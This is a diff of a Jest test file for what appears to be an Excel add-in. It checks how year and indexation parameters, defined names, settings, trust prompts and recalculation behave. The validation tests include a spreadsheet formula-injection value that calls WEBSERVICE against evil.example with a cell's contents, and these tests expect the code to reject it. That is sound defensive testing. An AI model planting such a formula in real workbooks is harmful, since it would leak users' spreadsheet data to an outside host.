@@ -17,41 +17,73 @@ const lookOf = (address: string, sheet = "Sheet1"): Record<string, unknown> | un
   book.sheet(sheet).cells.get(address)?.look;
 const formatOf = (address: string, sheet = "Sheet1"): string | undefined =>
   book.sheet(sheet).cells.get(address)?.format;
+/** All that is known of the workbook once Excel has answered. */
+const readWorkbook = async () => {
+  const { namedYear, namedIndexation } = await excelHost.readNamed();
+  return { ...excelHost.storedState(), namedYear, namedIndexation };
+};
+const NOTHING = {
+  parameters: null,
+  namedYear: null,
+  namedIndexation: null,
+  dataVersion: null,
+  ownFigures: "",
+  from1904: false,
+  asksTrust: false,
+};
 const editing = new FakeError("InvalidOperationInCellEditMode");
 
 describe("what the workbook keeps", () => {
   it("is nothing in one where nobody chose", async () => {
-    await expect(excelHost.readWorkbook()).resolves.toEqual({
-      parameters: null,
-      namedYear: null,
-      dataVersion: null,
-      ownFigures: "",
+    await expect(readWorkbook()).resolves.toEqual(NOTHING);
+  });
+
+  it("is told at once, without a request, also where the first request never comes back", async () => {
+    await excelHost.writeParameters({ year: 2019, indexation: null });
+    await excelHost.writeOwnFigures("a list");
+    book.requests.splice(0);
+    book.hangs = Infinity;
+    expect(excelHost.storedState()).toMatchObject({
+      parameters: { year: 2019, indexation: null },
+      ownFigures: "a list",
+    });
+    expect(book.requests).toEqual([]);
+    const asked = excelHost.readNamed().then(() => "answered");
+    expect(await Promise.race([asked, settled().then(() => "nothing")])).toBe("nothing");
+  });
+
+  it("year and indexation are stored, shown as names, and recalculate every formula of this workbook", async () => {
+    book.addSheet("Sheet2");
+    await excelHost.writeParameters({ year: 2028, indexation: "0.02" });
+    expect(Object.fromEntries(book.names)).toEqual({ PARAMETER_YEAR: "=2028", PARAMETER_INDEXATION: "=2/100" });
+    expect([book.calculations, book.othersCalculated]).toEqual([1, 0]);
+    await expect(readWorkbook()).resolves.toEqual({
+      ...NOTHING,
+      parameters: { year: 2028, indexation: "0.02" },
+      namedYear: 2028,
+      namedIndexation: "0.02",
     });
   });
 
-  it("year and indexation are stored, shown as names, and recalculate every formula", async () => {
-    await excelHost.writeParameters({ year: 2028, indexation: "0.02" });
-    expect(Object.fromEntries(book.names)).toEqual({ PARAMETER_YEAR: "=2028", PARAMETER_INDEXATION: "=0.02" });
-    expect(book.calculations).toBe(1);
-    await expect(excelHost.readWorkbook()).resolves.toEqual({
-      parameters: { year: 2028, indexation: "0.02" },
-      namedYear: 2028,
-      dataVersion: null,
-      ownFigures: "",
-    });
+  it("an indexation is named where numbers have a comma, and another one after it", async () => {
+    book.decimalSign = ",";
+    await excelHost.writeParameters({ year: 2028, indexation: "0.025" });
+    await excelHost.writeParameters({ year: 2028, indexation: "-0.005" });
+    expect(book.names.get("PARAMETER_INDEXATION")).toBe("=-5/1000");
+    await expect(readWorkbook()).resolves.toMatchObject({ namedIndexation: "-0.005" });
   });
 
   it("a year without indexation makes no name for it", async () => {
     await excelHost.writeParameters({ year: 2024, indexation: null });
     expect(Object.fromEntries(book.names)).toEqual({ PARAMETER_YEAR: "=2024" });
-    await expect(excelHost.readWorkbook()).resolves.toMatchObject({ parameters: { year: 2024, indexation: null } });
+    await expect(readWorkbook()).resolves.toMatchObject({ parameters: { year: 2024, indexation: null } });
   });
 
   it("the name of an indexation that is no longer assumed holds an empty text, for formulas use it", async () => {
     await excelHost.writeParameters({ year: 2028, indexation: "0.02" });
     await excelHost.writeParameters({ year: 2025, indexation: null });
     expect(Object.fromEntries(book.names)).toEqual({ PARAMETER_YEAR: "=2025", PARAMETER_INDEXATION: '=""' });
-    await expect(excelHost.readWorkbook()).resolves.toMatchObject({ parameters: { year: 2025, indexation: null } });
+    await expect(readWorkbook()).resolves.toMatchObject({ parameters: { year: 2025, indexation: null } });
   });
 
   it.each([
@@ -59,10 +91,74 @@ describe("what the workbook keeps", () => {
     ['="next year"', NaN],
     ["=Sheet1!$B$1", 2017],
     ["=Sheet1!$B$2", NaN],
+    ['="2019"', NaN],
   ])("a year that somebody edited to %s reads as %s", async (formula, namedYear) => {
     book.type({ B1: 2017 });
     book.names.set("PARAMETER_YEAR", formula);
-    await expect(excelHost.readWorkbook()).resolves.toMatchObject({ namedYear });
+    await expect(readWorkbook()).resolves.toMatchObject({ namedYear });
+  });
+
+  it("a name is not told while another window has the focus: it is neither broken nor missing", async () => {
+    await excelHost.writeParameters({ year: 2028, indexation: "0.02" });
+    book.toldOfNames = "values";
+    await expect(readWorkbook()).resolves.toMatchObject({ namedYear: 2028, namedIndexation: "0.02" });
+    book.toldOfNames = "nothing";
+    await expect(readWorkbook()).resolves.toMatchObject({ namedYear: undefined, namedIndexation: undefined });
+    await expect(excelHost.readNames(["PARAMETER_YEAR"])).resolves.toEqual([null]);
+    // What reads like a text may be the address of a range.
+    book.toldOfNames = "values";
+    book.names.set("PARAMETER_YEAR", '="Sheet1!$B$1"');
+    await expect(readWorkbook()).resolves.toMatchObject({ namedYear: undefined });
+  });
+
+  it.each(['="a lot"', "=TRUE", "=Sheet1!$B$1"])("a growth that somebody edited to %s is none", async (formula) => {
+    book.type({ B1: "a lot" });
+    book.names.set("PARAMETER_INDEXATION", formula.replace("TRUE", "true"));
+    await expect(readWorkbook()).resolves.toMatchObject({ namedIndexation: undefined });
+  });
+
+  it.each([
+    [false, false],
+    [true, true],
+  ])("days count from 1904: %s", async (from1904, told) => {
+    book.from1904 = from1904;
+    await expect(excelHost.readNamed()).resolves.toMatchObject({ from1904: told });
+  });
+
+  it("names are told also where Excel cannot tell how days are counted", async () => {
+    await excelHost.writeParameters({ year: 2019, indexation: null });
+    book.failure = (operation) => (operation === "Functions.date" ? "GeneralException" : undefined);
+    await expect(excelHost.readNamed()).resolves.toEqual({
+      namedYear: 2019,
+      namedIndexation: null,
+      from1904: undefined,
+    });
+  });
+
+  it("what names and options told is kept without a request, and known at once next time", async () => {
+    await excelHost.keep({ parameters: { year: 2027, indexation: "0.02" }, from1904: true });
+    expect(book.requests).toEqual([]);
+    expect(excelHost.storedState()).toMatchObject({
+      parameters: { year: 2027, indexation: "0.02" },
+      from1904: true,
+    });
+    await excelHost.keep({ from1904: false });
+    expect(excelHost.storedState()).toMatchObject({ parameters: { year: 2027 }, from1904: false });
+    expect(book.settings.has("datesFrom1904")).toBe(false);
+  });
+
+  it("asks nobody to trust the add-in as soon as anything is kept, unless somebody wants it so", async () => {
+    await excelHost.readNamed();
+    expect(book.settings.size).toBe(0);
+    await excelHost.writeDataVersion("1");
+    expect(book.settings.get("Office.DisableTrustUX")).toBe(true);
+    expect(excelHost.storedState().asksTrust).toBe(false);
+    await excelHost.writeAsksTrust(true);
+    await excelHost.writeDataVersion("2");
+    expect(book.settings.get("Office.DisableTrustUX")).toBe(false);
+    expect(excelHost.storedState().asksTrust).toBe(true);
+    await excelHost.writeAsksTrust(false);
+    expect(book.settings.get("Office.DisableTrustUX")).toBe(true);
   });
 
   it.each([2026.5, -1, 1e9, 2014, 2101, NaN, Infinity, "2026", "=WEBSERVICE(A1)", true])(
@@ -70,7 +166,7 @@ describe("what the workbook keeps", () => {
     async (year) => {
       book.settings.set("parameterYear", year);
       book.settings.set("parameterIndexation", "0.02");
-      const state = await excelHost.readWorkbook();
+      const state = await readWorkbook();
       expect(state).toMatchObject({ parameters: null, unfit: { year: String(year).slice(0, 40) } });
     },
   );
@@ -86,27 +182,26 @@ describe("what the workbook keeps", () => {
     " 0.02",
     "+0.02",
     0.02,
+    "0.1234567890123456",
   ])("an indexation %p is none: it is told and not taken", async (indexation) => {
     book.settings.set("parameterYear", 2027);
     book.settings.set("parameterIndexation", indexation);
-    const state = await excelHost.readWorkbook();
+    const state = await readWorkbook();
     expect(state).toMatchObject({
       parameters: { year: 2027, indexation: null },
       unfit: { indexation: String(indexation).slice(0, 40) },
     });
   });
 
-  it.each(["-0.99", "0", "1", "0.025", "-0.0000000001"])("an indexation %p is one", async (indexation) => {
-    book.settings.set("parameterYear", 2027);
-    book.settings.set("parameterIndexation", indexation);
-    const state = await excelHost.readWorkbook();
-    expect(state).toEqual({
-      parameters: { year: 2027, indexation },
-      namedYear: null,
-      dataVersion: null,
-      ownFigures: "",
-    });
-  });
+  it.each(["-0.99", "0", "1", "0.025", "-0.0000000001", "0.12345678901234500000"])(
+    "an indexation %p is one",
+    async (indexation) => {
+      book.settings.set("parameterYear", 2027);
+      book.settings.set("parameterIndexation", indexation);
+      const state = await readWorkbook();
+      expect(state).toEqual({ ...NOTHING, parameters: { year: 2027, indexation } });
+    },
+  );
 
   it.each([
     { year: 2027, indexation: 'WEBSERVICE("http://evil.example/?"&Sheet1!A1)' },
@@ -120,11 +215,11 @@ describe("what the workbook keeps", () => {
 
   it("a version of the data is shown no longer than ours are", async () => {
     book.settings.set("dataVersion", "x".repeat(100_000));
-    expect((await excelHost.readWorkbook()).dataVersion).toHaveLength(60);
+    expect((await readWorkbook()).dataVersion).toHaveLength(60);
   });
 
   it("nothing is stored when Excel refuses the calculation", async () => {
-    book.failure = (operation) => (operation.startsWith("Application.calculate") ? editing : undefined);
+    book.failure = (operation) => (operation.startsWith("Worksheet.calculate") ? editing : undefined);
     await expect(excelHost.writeParameters({ year: 2024, indexation: null })).rejects.toBe(editing);
     expect(book.settings.size).toBe(0);
   });
@@ -138,7 +233,7 @@ describe("what the workbook keeps", () => {
   it("is read when whoever types while the workbook opens is done, and so are the formulas calculated", async () => {
     await excelHost.writeParameters({ year: 2019, indexation: null });
     book.isEditing = true;
-    const opened = excelHost.readWorkbook().then(async (state) => {
+    const opened = readWorkbook().then(async (state) => {
       await excelHost.recalculate();
       return state;
     });
@@ -149,28 +244,60 @@ describe("what the workbook keeps", () => {
 
   it("its own figures are stored and recalculate every formula; without any nothing is left", async () => {
     await excelHost.writeOwnFigures("a list");
-    await expect(excelHost.readWorkbook()).resolves.toMatchObject({ ownFigures: "a list" });
+    await expect(readWorkbook()).resolves.toMatchObject({ ownFigures: "a list" });
     expect(book.calculations).toBe(1);
     await excelHost.writeOwnFigures("");
-    expect(book.settings.size).toBe(0);
+    expect(book.settings.has("ownFigures")).toBe(false);
   });
 
   it("own figures are not stored when Excel refuses the calculation, and what is no text is no list", async () => {
-    book.failure = (operation) => (operation.startsWith("Application.calculate") ? editing : undefined);
+    book.failure = (operation) => (operation.startsWith("Worksheet.calculate") ? editing : undefined);
     await expect(excelHost.writeOwnFigures("a list")).rejects.toBe(editing);
     expect(book.settings.size).toBe(0);
     book.settings.set("ownFigures", { figures: [] });
-    expect((await excelHost.readWorkbook()).ownFigures).toBe("");
+    expect((await readWorkbook()).ownFigures).toBe("");
   });
 
   it("the version of the data is noted", async () => {
     await excelHost.writeDataVersion("4fa26596 2026-12-31");
-    await expect(excelHost.readWorkbook()).resolves.toMatchObject({ dataVersion: "4fa26596 2026-12-31" });
+    await expect(readWorkbook()).resolves.toMatchObject({ dataVersion: "4fa26596 2026-12-31" });
   });
 
-  it("recalculates every formula", async () => {
+  it("recalculates every formula, sheet by sheet, and what depends on them, but no other workbook", async () => {
+    book.addSheet("Sheet2");
     await excelHost.recalculate();
-    expect(book.requests).toEqual([["Application.calculate Full"]]);
+    expect(book.requests.flat()).toEqual([
+      "Worksheet.calculate Sheet1 true",
+      "Worksheet.calculate Sheet2 true",
+      "Application.calculate Recalculate",
+    ]);
+    expect([book.calculations, book.othersCalculated]).toEqual([1, 0]);
+  });
+
+  it("tells when the user comes back to the pane or to the workbook, until told to stop", async () => {
+    const listener = jest.fn();
+    const stop = excelHost.onReturn(listener);
+    await settled();
+    const show = (visibilityMode: string) => book.visibilityListeners.forEach((tell) => tell({ visibilityMode }));
+    const activate = () => Promise.all([...book.activationListeners].map((tell) => tell()));
+    show("Hidden");
+    expect(listener).not.toHaveBeenCalled();
+    show("Taskpane");
+    await activate();
+    expect(listener).toHaveBeenCalledTimes(2);
+    stop();
+    await settled();
+    show("Taskpane");
+    await activate();
+    expect(listener).toHaveBeenCalledTimes(2);
+    expect(book.activationListeners.size).toBe(0);
+  });
+
+  it("asks an older Excel for nothing that it does not have", async () => {
+    book.supportsActivation = false;
+    excelHost.onReturn(jest.fn())();
+    await settled();
+    expect(book.requests).toEqual([]);
   });
 });
 
